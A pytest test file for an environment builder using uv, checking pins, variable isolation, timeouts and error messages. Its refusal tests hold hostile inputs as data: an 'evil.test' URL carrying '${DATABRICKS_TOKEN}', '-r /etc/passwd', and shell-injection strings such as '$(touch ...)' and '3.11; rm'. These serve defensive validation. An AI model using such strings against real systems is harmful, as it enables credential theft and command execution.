"""Building environments: what is in them, what is refused, and why one cannot be had."""

from __future__ import annotations

import os
import stat
import time

import pytest
from alive import gone
from hypothesis import given
from hypothesis import strategies as st

from fakebricks.environments import uv
from fakebricks.environments.limits import Limits
from fakebricks.environments.shared import Environments
from fakebricks.environments.specs import EnvironmentBuildError, EnvironmentSpec

HERE = "3.11"


def versions(environment, tmp_path):
    """What is installed, by name."""
    script = tmp_path / "installed.py"
    script.write_text(
        "from importlib.metadata import distributions\nprint(*(f'{d.name}=={d.version}' for d in distributions()))\n",
    )
    return dict(one.split("==") for one in environment.run(script).split())


def test_an_environment_has_what_is_required_and_nothing_of_this_process(made, tmp_path):
    environment = made.get(EnvironmentSpec(HERE, ("fakebricks-outer==1.0",)))
    assert versions(environment, tmp_path) == {"fakebricks_outer": "1.0", "fakebricks_inner": "1.5"}
    assert "fakebricks-inner==1.5" in environment.build_log


def test_a_pin_overrides_what_is_asked_for_and_installs_nothing_by_itself(made, tmp_path):
    environment = made.get(
        EnvironmentSpec(HERE, ("fakebricks-outer",), {"fakebricks-inner": "2.0", "mlflow": "3000.0"})
    )
    assert versions(environment, tmp_path) == {"fakebricks_outer": "1.0", "fakebricks_inner": "2.0"}


def test_nothing_needs_to_be_required(made, tmp_path):
    assert versions(made.get(EnvironmentSpec(HERE, ())), tmp_path) == {}


def test_a_script_sees_none_of_the_variables_of_this_process_but_its_own(made, tmp_path, monkeypatch):
    monkeypatch.setenv("DATABRICKS_TOKEN", "secret")
    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
    script = tmp_path / "variables.py"
    script.write_text("import os, sys\nprint(sorted(os.environ), sys.argv[1:])")
    printed = made.get(EnvironmentSpec(HERE, ())).run(script, "a b", variables={"OWN": "1"})
    assert "DATABRICKS_TOKEN" not in printed
    assert "PYTHONPATH" not in printed
    assert "'OWN'" in printed
    assert "['a b']" in printed


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("--index-url=http://evil.test/simple", "is an option"),
        ("  -r /etc/passwd", "is an option"),
        ("-e .", "is an option"),
        ("inner\n--index-url http://evil.test", "more than one line"),
        ("inner\r--pre", "more than one line"),
        ("inner \x00", "more than one line"),
        ("inner \\", "goes on in the next line"),
        ("inner @ http://evil.test/${DATABRICKS_TOKEN}", "a variable of this machine's environment"),
    ],
)
def test_a_line_that_is_more_than_a_requirement_is_refused(made, tmp_path, line, why):
    with pytest.raises(EnvironmentBuildError, match=why):
        made.get(EnvironmentSpec(HERE, (line,)))
    assert not [path for path in (tmp_path / "cache" / "environments").iterdir() if path.is_dir()]


@pytest.mark.parametrize(
    "line",
    ["inner; touch {0}", "inner && touch {0}", "$(touch {0})", "`touch {0}`", "inner | tee {0}", "'; touch {0} #"],
)
def test_a_line_never_reaches_a_shell(made, tmp_path, line):
    victim = tmp_path / "victim"
    with pytest.raises(EnvironmentBuildError):
        made.get(EnvironmentSpec(HERE, (line.format(victim),)))
    assert not victim.exists()


@pytest.mark.parametrize("pins", [{"inner": "1.0\n--pre"}, {"inner\nouter": "1.0"}, {"-r x": "1"}, {"inner": ">=1"}])
def test_a_pin_is_a_name_and_a_version(made, pins):
    with pytest.raises(EnvironmentBuildError, match="is not a pin"):
        made.get(EnvironmentSpec(HERE, ("inner",), pins))


@pytest.mark.parametrize("python", ["", "3", "python3.11", "3.11; rm", "../python", "--help"])
def test_a_version_of_python_is_a_version(made, python):
    with pytest.raises(EnvironmentBuildError, match="is not a version of Python"):
        made.get(EnvironmentSpec(python, ()))


def test_why_a_requirement_cannot_be_had_is_said_in_one_line(made):
    with pytest.raises(EnvironmentBuildError) as caught:
        made.get(EnvironmentSpec(HERE, ("fakebricks-outer", "fakebricks-inner==2.0")))
    reason = str(caught.value)
    assert "\n" not in reason
    assert reason.startswith("No solution found when resolving dependencies")
    assert "fakebricks-inner<2" in reason
    assert "fakebricks-inner==2.0" in reason
    assert "$ uv pip install" in caught.value.log
    assert reason.rsplit(": ", maxsplit=1)[-1].rsplit(" ", maxsplit=1)[-1] in caught.value.log


def test_a_package_that_is_nowhere_is_named(made):
    with pytest.raises(EnvironmentBuildError, match="no-such-package") as caught:
        made.get(EnvironmentSpec(HERE, ("no-such-package==1",)))
    assert "\n" not in str(caught.value)


def test_a_python_that_is_not_to_be_had_is_named(made):
    with pytest.raises(EnvironmentBuildError, match=r"3\.99") as caught:
        made.get(EnvironmentSpec("3.99", ("inner",)))
    assert "\n" not in str(caught.value)


def fake_uv(tmp_path, monkeypatch, script):
    program = tmp_path / "uv"
    program.write_text(f"#!/bin/sh\n{script}\n")
    program.chmod(program.stat().st_mode | stat.S_IEXEC)
    monkeypatch.setattr(uv, "program", lambda: str(program))


def test_a_build_that_hangs_is_ended_with_all_that_it_has_started(tmp_path, monkeypatch):
    fake_uv(tmp_path, monkeypatch, f"echo resolving; sleep 300 & echo $! > {tmp_path}/child; wait")
    environments = Environments(tmp_path / "cache", Limits(build=2))
    began = time.perf_counter()
    with pytest.raises(EnvironmentBuildError, match="took longer than its limit") as caught:
        environments.get(EnvironmentSpec(HERE, ("inner",)))
    assert time.perf_counter() - began < 150  # of the three hundred that it sleeps
    assert "resolving" in caught.value.log
    child = int((tmp_path / "child").read_text())
    assert gone(child)
    assert not list((tmp_path / "cache" / "environments").glob("*.building"))


def test_a_uv_that_dies_without_a_word_is_an_error_too(tmp_path, monkeypatch):
    fake_uv(tmp_path, monkeypatch, "exit 1")
    with pytest.raises(EnvironmentBuildError, match="without a word"):
        Environments(tmp_path / "cache").get(EnvironmentSpec(HERE, ()))


def test_what_is_in_uvs_cache_needs_no_network(tmp_path, monkeypatch):
    asked = tmp_path / "asked"
    make_venv = "mkdir -p venv/bin && touch venv/bin/python"
    fake_uv(tmp_path, monkeypatch, f'echo "$@" >> {asked}; {make_venv}')
    Environments(tmp_path / "cache").get(EnvironmentSpec(HERE, ("inner",)))
    first, second = asked.read_text().splitlines()
    assert first.startswith("venv ")
    assert second.startswith("pip install ")
    assert first.endswith("--offline")
    assert second.endswith("--offline")


def test_without_uv_it_is_said_what_to_install(tmp_path, monkeypatch):
    monkeypatch.setitem(__import__("sys").modules, "uv", None)
    with pytest.raises(EnvironmentBuildError, match=r"pip install 'fakebricks\[environments\]'"):
        Environments(tmp_path / "cache").get(EnvironmentSpec(HERE, ()))


def test_the_users_indexes_hold_also_where_they_are_pips():
    pips = {"PIP_INDEX_URL": "https://a.test", "PIP_EXTRA_INDEX_URL": "https://b.test", "PIP_FIND_LINKS": "/x /y"}
    told = uv._variables({**pips, "UV_INDEX": "https://c.test", "VIRTUAL_ENV": "/here", "PYTHONPATH": "/here"})
    assert told["UV_DEFAULT_INDEX"] == "https://a.test"
    assert told["UV_INDEX"] == "https://c.test"
    assert told["UV_FIND_LINKS"] == "/x,/y"
    assert "VIRTUAL_ENV" not in told
    assert "PYTHONPATH" not in told


def test_a_netrc_that_is_hidden_does_not_hide_the_users_own_from_uv(tmp_path):
    (tmp_path / "netrc").touch()
    assert "NETRC" not in uv._variables({"NETRC": os.devnull + "/nowhere"})
    assert "NETRC" in uv._variables({"NETRC": str(tmp_path / "netrc")})


_NOT_FOUND = "No solution found when resolving dependencies: Because a was not found and you require a, we conclude."
_SINCE_0_12 = """Using Python 3.11.7
error: No solution found when resolving dependencies
  cause: Because a was not found
         and you require a, we conclude.

hint: try again
"""
_BEFORE_0_12 = """  \u00d7 No solution found when resolving dependencies:
  \u2570\u2500\u25b6 Because a was not found
      and you require a, we conclude.

      hint: try again
"""


@pytest.mark.parametrize(
    ("log", "reason"),
    [
        (_SINCE_0_12, _NOT_FOUND),
        (_BEFORE_0_12, _NOT_FOUND),
        ("error: Failed to fetch\n  cause: dns error\n  cause: nobody", "Failed to fetch: dns error: nobody"),
        ("something else\nentirely", "entirely"),
        ("", "uv has failed without a word."),
    ],
)
def test_the_reason_in_what_uv_prints(log, reason):
    assert uv.reason(log) == reason


@given(
    st.text(st.characters(codec="utf-8"), max_size=40)
    | st.sampled_from(["a\n-r b", "a\x0b-e .", "\ufeff-r b", "a\u2028b"])
)
def test_whatever_a_line_is_it_is_one_line_and_no_option_or_is_refused(tmp_path, line):
    try:
        requirements, _ = uv.written(EnvironmentSpec(HERE, (line, "last")), tmp_path)
    except EnvironmentBuildError:
        return
    lines = requirements.read_text(encoding="utf-8").splitlines()
    assert lines == [line, "last"] or (not line and lines == ["", "last"])
    assert not line.strip().startswith("-")
